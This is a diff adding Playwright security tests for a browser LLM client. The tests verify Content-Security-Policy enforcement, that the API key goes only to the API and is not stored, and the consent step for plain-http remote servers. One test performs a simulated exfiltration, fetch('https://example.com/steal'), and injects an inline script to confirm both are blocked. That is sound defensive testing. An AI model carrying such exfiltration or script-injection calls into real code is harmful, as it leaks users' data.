@@ -1,0 +1,165 @@
+import { test, expect, type Page } from '@playwright/test';
+import { readFileSync, mkdtempSync } from 'node:fs';
+import { join } from 'node:path';
+import { tmpdir } from 'node:os';
+import { API, TEST_KEY, openWith, script, uniqueModel } from './helpers';
+import { SITE_PORT } from '../playwright.config';
+
+const SITE = `http://127.0.0.1:${SITE_PORT}`;
+
+test.afterEach(async ({ request }) => {
+  await request.delete(`${API}/_llmock/scenario`);
+});
+
+/** Every Content-Security-Policy violation the page reports. */
+async function watchViolations(page: Page) {
+  await page.addInitScript(() => {
+    (window as any).__violations = [];
+    document.addEventListener('securitypolicyviolation', (e) =>
+      (window as any).__violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
+    );
+  });
+  return () => page.evaluate(() => (window as any).__violations as string[]);
+}
+
+async function runSixTasks(page: Page) {
+  await page.getByTestId('mode-parallel').check();
+  await page.getByTestId('run').click();
+  await expect(page.getByTestId('phase')).toHaveText('Finished.', { timeout: 30_000 });
+}
+
+async function batchOfTwo(page: Page) {
+  await page.getByTestId('batch-paste').fill('First document.\n---\nSecond document.');
+  await page.getByTestId('batch-add-pasted').click();
+  await page.getByTestId('batch-run').click();
+  await expect(page.getByTestId('batch-progress')).toContainText('0 remaining', { timeout: 30_000 });
+}
+
+async function download(page: Page, testid: string, dir: string): Promise<string> {
+  const [d] = await Promise.all([page.waitForEvent('download'), page.getByTestId(testid).click()]);
+  const file = join(dir, d.suggestedFilename());
+  await d.saveAs(file);
+  return readFileSync(file, 'utf8');
+}
+
+test('the built page runs under its Content-Security-Policy with no violation, and the policy is enforced', async ({ page, request }) => {
+  const violations = await watchViolations(page);
+  const model = uniqueModel('csp');
+  await script(request, model, [{ type: 'reply', text: 'Fine.', times: null }]);
+  await openWith(page, { model });
+  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval' 'sha256-");
+  expect(policy).not.toContain('__');
+  expect(policy).not.toContain('unsafe-inline');
+  await page.getByTestId('test-connection').click();
+  await expect(page.getByTestId('model-list')).toBeAttached();
+  await runSixTasks(page);
+  // The PDF reader worker loads and runs under it too.
+  await page.getByTestId('batch-files').setInputFiles(join(__dirname, '..', 'fixtures', 'claim.pdf'));
+  await expect(page.getByTestId('batch-docs')).toContainText('claim.pdf');
+  await expect(page.getByTestId('batch-doc-0-error')).toHaveCount(0);
+  await batchOfTwo(page);
+  expect(await violations()).toEqual([]);
+
+  // Enforced: another server and an injected inline script are refused.
+  const outcome = await page.evaluate(() =>
+    fetch('https://example.com/steal').then(() => 'sent', () => 'blocked'),
+  );
+  expect(outcome).toBe('blocked');
+  await page.evaluate(() => {
+    const s = document.createElement('script');
+    s.textContent = 'window.__ran = true';
+    document.body.appendChild(s);
+  });
+  expect(await page.evaluate(() => (window as any).__ran ?? false)).toBe(false);
+  await expect.poll(violations).toEqual(
+    expect.arrayContaining([expect.stringMatching(/^connect-src https:\/\/example\.com/), expect.stringMatching(/^script-src-elem inline/)]),
+  );
+});
+
+test('the key goes only to the base URL, only in the Authorization header, and nowhere else', async ({ page, request }) => {
+  const model = uniqueModel('key');
+  await script(request, model, [{ type: 'reply', text: 'Fine.', times: null }]);
+  const seen: { url: string; method: string; auth?: string }[] = [];
+  page.context().on('request', (r) => seen.push({ url: r.url(), method: r.method(), auth: r.headers()['authorization'] }));
+  const consoleText: string[] = [];
+  page.on('console', (m) => consoleText.push(m.text()));
+  await openWith(page, { model });
+  await page.getByTestId('test-connection').click();
+  await expect(page.getByTestId('model-list')).toBeAttached();
+  await runSixTasks(page);
+  await page.getByTestId('prompt-input').fill('Say hello.');
+  await page.getByTestId('send').click();
+  await expect(page.getByTestId('status')).toContainText('done', { timeout: 15_000 });
+  await batchOfTwo(page);
+  const dir = mkdtempSync(join(tmpdir(), 'fanout-key-'));
+  const files = [
+    await download(page, 'batch-export-csv', dir),
+    await download(page, 'batch-export-json', dir),
+    await download(page, 'batch-export-jsonl', dir),
+    await download(page, 'export-tasks', dir),
+  ];
+
+  const apiCalls = seen.filter((r) => r.url.startsWith(`${API}/v1/`) && r.method !== 'OPTIONS');
+  expect(apiCalls.length).toBeGreaterThanOrEqual(1 + 6 + 1 + 2);
+  for (const r of seen) {
+    expect([SITE, API]).toContain(new URL(r.url).origin);
+    expect(r.url).not.toContain(TEST_KEY);
+    if (r.auth !== undefined) expect(r.url.startsWith(`${API}/v1/`)).toBe(true);
+  }
+  for (const r of apiCalls) expect(r.auth).toBe(`Bearer ${TEST_KEY}`);
+  for (const text of [...files, consoleText.join('\n')]) expect(text).not.toContain(TEST_KEY);
+  const stored = await page.evaluate(async () => {
+    const local = JSON.stringify({ ...localStorage });
+    const db: IDBDatabase = await new Promise((ok, err) => {
+      const open = indexedDB.open('fanout');
+      open.onsuccess = () => ok(open.result);
+      open.onerror = () => err(open.error);
+    });
+    const stores = Array.from(db.objectStoreNames);
+    const all = await Promise.all(stores.map((name) => new Promise((ok) => {
+      const get = db.transaction(name).objectStore(name).getAll();
+      get.onsuccess = () => ok(get.result);
+    })));
+    return { local, idb: JSON.stringify(all), stores };
+  });
+  expect(stored.stores.length).toBeGreaterThan(0);
+  expect(stored.idb).toContain('First document.');
+  expect(stored.local).not.toContain(TEST_KEY);
+  expect(stored.idb).not.toContain(TEST_KEY);
+
+  // Kept only when asked, and removed when no longer wanted.
+  await page.getByTestId('remember-key').check();
+  await expect.poll(() => page.evaluate(() => JSON.stringify({ ...localStorage }))).toContain(TEST_KEY);
+  await page.getByTestId('remember-key').uncheck();
+  await expect.poll(() => page.evaluate(() => JSON.stringify({ ...localStorage }))).not.toContain(TEST_KEY);
+});
+
+test('a key is not sent over plain http to another machine until the user accepts that', async ({ page }) => {
+  const remote = 'http://192.0.2.10:8000/v1';
+  const seen: string[] = [];
+  page.context().on('request', (r) => seen.push(r.url()));
+  await page.goto('./');
+  await page.getByTestId('api-key').fill(TEST_KEY);
+  await page.getByTestId('model').fill('gpt-4o-mini');
+  await page.getByTestId('base-url').fill(remote);
+  await expect(page.getByTestId('plain-http-warning')).toContainText('cross the network unencrypted');
+  await page.getByTestId('prompt-input').fill('Hi');
+  await page.getByTestId('send').click();
+  await expect(page.getByTestId('form-error')).toContainText('plain http:// to another machine');
+  expect(seen.some((u) => u.startsWith('http://192.0.2.10'))).toBe(false);
+  // What was typed is kept.
+  await expect(page.getByTestId('prompt-input')).toHaveValue('Hi');
+  // A server on this machine needs no such consent.
+  await page.getByTestId('base-url').fill(`${API}/v1`);
+  await expect(page.getByTestId('plain-http-warning')).toHaveCount(0);
+  await expect(page.getByTestId('csp-warning')).toHaveCount(0);
+  // Accepted, the page tries; this build's policy then refuses the server,
+  // and the page said so beforehand.
+  await page.getByTestId('base-url').fill(remote);
+  await expect(page.getByTestId('csp-warning')).toContainText('the browser will refuse this base URL');
+  await page.getByTestId('allow-plain-http').check();
+  await page.getByTestId('send').click();
+  await expect(page.getByTestId('error-message')).toBeVisible({ timeout: 15_000 });
+  await expect(page.getByTestId('form-error')).toHaveCount(0);
+});
